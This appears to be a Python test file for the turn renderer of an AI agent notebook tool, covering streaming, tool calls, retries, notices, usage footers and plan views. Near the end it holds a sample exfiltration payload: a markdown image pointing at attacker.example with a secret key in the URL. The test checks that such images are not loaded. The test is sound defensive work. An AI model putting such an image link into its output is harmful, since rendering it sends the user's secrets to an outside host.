"""The turn renderer on its own: what a sequence of events leaves in a cell."""

from __future__ import annotations

from types import SimpleNamespace

from ollie_nb.core import (
    Notice,
    PlanMade,
    Retrying,
    TextDelta,
    ToolCalled,
    ToolFinished,
    TurnEnded,
    TurnResult,
    UsageReported,
    UsageTotals,
)
from ollie_nb.notebook import _render
from ollie_nb.notebook._render import Settings, TurnView
from ollie_nb.planning import PlanRecord, PlanStep


class Cell:
    """Collects outputs like a notebook cell: shown objects, and live ones updated in place."""

    def __init__(self):
        self.outputs: list = []

    def show(self, obj):
        self.outputs.append(obj)

    def live(self, obj):
        index = len(self.outputs)
        self.outputs.append(obj)

        def update(new):
            self.outputs[index] = new

        return update

    def texts(self):
        return [o._repr_mimebundle_()["text/plain"] for o in self.outputs]


def view_of(cell, **settings):
    return TurnView(Settings(usage_footer=False, **settings), cell.show, cell.live)


def test_streamed_reply_leaves_an_empty_live_area_and_the_reply():
    cell = Cell()
    view = view_of(cell, stream_interval=10)
    for piece in ["Hello ", "there, ", "world."]:
        view(TextDelta(piece))
    assert cell.texts() == ["Hello "]  # the live area opened on the first piece
    view(TurnEnded(TurnResult("Hello there, world.")))
    view.finish()
    assert cell.texts() == ["", "Hello there, world."]


def test_tool_call_then_plan_graph_under_it():
    cell = Cell()
    view = view_of(cell)
    record = PlanRecord(1, "Goal", (PlanStep("a"), PlanStep("b", after=(0,))), text="Plan: Goal")
    view(ToolCalled("c1", "reasoning_plan", "reasoning", {"goal": "Goal"}))
    assert cell.texts() == ["*running `reasoning_plan` …*"]
    view(PlanMade(record))
    view(ToolFinished("c1", "reasoning_plan", "reasoning", "Plan: Goal\n1. a", seconds=0.01))
    texts = cell.texts()
    assert texts[0] == ""
    assert texts[1].startswith('→ reasoning_plan({"goal": "Goal"})')
    assert texts[2] == "Plan: Goal"  # the graph's text form, drawn after its call


def test_retry_counts_down_and_stops_when_text_arrives(monkeypatch):
    now = [100.0]  # the view's clock, moved by hand: a second passes without a wait
    monkeypatch.setattr(_render, "time", SimpleNamespace(perf_counter=lambda: now[0]))
    cell = Cell()
    view = view_of(cell)
    view(Retrying("rate limited (429)", attempt=1, delay=2.0))
    assert cell.texts() == ["*rate limited (429): retry 1 in 2 s …*"]
    now[0] += 1.1
    view.tick()
    assert cell.texts() == ["*rate limited (429): retry 1 in 1 s …*"]
    view(TextDelta("Answer"))
    view.tick()
    assert cell.texts() == ["Answer"]  # the live area now streams the reply
    view.finish()
    assert cell.texts() == ["", "Answer"]


def test_errors_and_interruptions_are_one_line_notices():
    cell = Cell()
    view = view_of(cell)
    view(TextDelta("partial"))
    view(Notice("openai: HTTP 500: server error", "error"))
    view(TurnEnded(TurnResult(interrupted=True)))
    view.finish()
    assert cell.texts() == [
        "",
        "partial",
        "✖ openai: HTTP 500: server error",
        "⚠ interrupted; the session is still usable",
    ]
    assert view.interrupted


def test_the_event_type_decides_not_its_text():
    cell = Cell()
    view = view_of(cell)
    view(Notice("interrupted"))  # a notice that happens to say so is only a line
    assert not view.interrupted
    view(Notice("disk almost full", "warning"))
    view(TurnEnded(TurnResult("a reply that says nothing of it", interrupted=True)))
    view.finish()
    assert cell.texts() == [
        "ℹ interrupted",
        "⚠ disk almost full",
        "⚠ interrupted; the session is still usable",
    ]
    assert view.interrupted and view.result_reply == "a reply that says nothing of it"


def test_a_plan_warning_is_a_warning_notice_and_usage_makes_the_footer():
    cell = Cell()
    view = TurnView(Settings(show_plans=False), cell.show, cell.live)
    record = PlanRecord(1, "Goal", (PlanStep("a"),), text="Plan: Goal", warning="warning: x")
    view(PlanMade(record, "tasks failed (down); this plan lives in context only."))
    view(UsageReported(7, 3, total_input=120, total_output=45, requests=2))
    view.finish()
    texts = cell.texts()
    assert texts[0] == "⚠ tasks failed (down); this plan lives in context only."
    assert texts[1].startswith("this turn: 7 tokens in · 3 out · 1 request · ")
    assert texts[1].endswith(" s — session: 120 in · 45 out · 2 requests")


def test_the_footer_tells_the_turns_figures_from_the_sessions():
    """The session's figures count requests made elsewhere (sub-agents, earlier turns)."""
    cell = Cell()
    view = TurnView(Settings(), cell.show, cell.live)
    view(UsageReported(10, 4, total_input=510, total_output=94, requests=11))
    view(UsageReported(20, 6, total_input=530, total_output=100, requests=12))
    view.finish()
    footer = cell.texts()[-1]
    assert footer.startswith("this turn: 30 tokens in · 10 out · 2 requests · ")
    assert footer.endswith(" — session: 530 in · 100 out · 12 requests")


def test_the_footer_and_the_usage_row_write_numbers_with_thousands_separators():
    """One number format: the footer, `%ollie usage` and the run summaries all say 1,592."""
    cell = Cell()
    view = TurnView(Settings(), cell.show, cell.live)
    view(UsageReported(1592, 2195, total_input=12345, total_output=6789, requests=1001))
    view.finish()
    footer = cell.texts()[-1]
    assert footer.startswith("this turn: 1,592 tokens in · 2,195 out · 1 request · "), footer
    assert footer.endswith(" — session: 12,345 in · 6,789 out · 1,001 requests"), footer
    totals = UsageTotals(2195, 1592, 3, cache_read_tokens=1024, cache_write_tokens=0)
    assert (
        str(totals)
        == "3 requests, 2,195 tokens in, 1,592 tokens out (1,024 cached, 0 cache writes)"
    )


def test_plan_text_plain_shows_each_step_status_and_the_progress():
    from ollie_nb.notebook._plans import PlanGraphView
    from ollie_nb.planning import format_plan

    steps = (PlanStep("Collect"), PlanStep("Clean", after=(0,)), PlanStep("Chart", after=(1,)))
    text = format_plan("Report", steps, ["a1", "a2", "a3"], "Plan saved.")
    record = PlanRecord(1, "Report", steps, ids=("a1", "a2", "a3"), text=text, backend="x")
    assert PlanGraphView(record, {}).text() == text  # no statuses known: the plan text alone
    statuses = {"a1": "closed", "a2": "in_progress", "goal": "done", "other": "done"}
    view = PlanGraphView(record, statuses)
    shown = view.text()
    assert view._repr_mimebundle_()["text/plain"].startswith(shown)  # plus a warning without dot
    assert shown.startswith(text + "\n\n")
    assert shown[len(text) + 2 :].split("\n") == [
        "1. done         Collect",
        "2. in_progress  Clean",
        "3. blocked      Chart",
        "1 of 3 steps done",
    ]
    everything = {"a1": "done", "a2": "done", "a3": "cancelled"}
    assert PlanGraphView(record, everything).text().endswith("\n3 of 3 steps done")


EXFIL = "![ok](https://attacker.example/p.png?k=sk-live-0123456789)"


def test_a_remote_image_in_a_reply_or_a_tool_result_is_a_link_naming_its_host():
    """23.3: a reply's `![ok](https://attacker.example/p.png?k=<secret>)` was a live <img>,
    fetched when the reply showed and whenever the saved notebook was opened."""
    cell = Cell()
    view = view_of(cell, stream_interval=0)
    view(ToolCalled("c1", "fetch_page", "web", {"url": "https://attacker.example"}))
    result = f"page text {EXFIL} <img src='https://attacker.example/raw.png'>"
    view(ToolFinished("c1", "fetch_page", "web", result, False, 0.1))
    for piece in ["Here: ", EXFIL, " and ![inline](data:image/png;base64,iVBORw0KGgo=)"]:
        view(TextDelta(piece))
    streaming = "\n".join(o._repr_mimebundle_()["text/html"] for o in cell.outputs)
    view(TurnEnded(TurnResult("Here: " + EXFIL)))
    view.finish()
    shown = streaming + "\n".join(o._repr_mimebundle_()["text/html"] for o in cell.outputs)
    assert '<img src="https://' not in shown and "<img src='https://" not in shown
    assert "[image: ok (from attacker.example, not loaded)]" in shown
    assert '<img src="data:image/png;base64,iVBORw0KGgo=" alt="inline" />' in streaming


def test_an_empty_queue_with_a_plan_on_a_task_server_says_how_to_work_it():
    from ollie_nb.notebook.commands.plans import empty_queue_text

    in_context = PlanRecord(1, "Goal", (PlanStep("a"),), text="Plan: Goal")
    saved = PlanRecord(2, "Goal", (PlanStep("a"),), ("t-1",), "t-g", backend="tasks", kind="tasks")
    assert empty_queue_text([in_context]) == "the queue is empty"
    assert empty_queue_text([saved, in_context]) == (
        "the queue is empty; plan 2 is saved on the task server: work it with "
        "%ollie run --parallel, or %ollie watch on (the agent works each step as it becomes "
        "ready), or a worker (ollie-work --agent FILE)"
    )
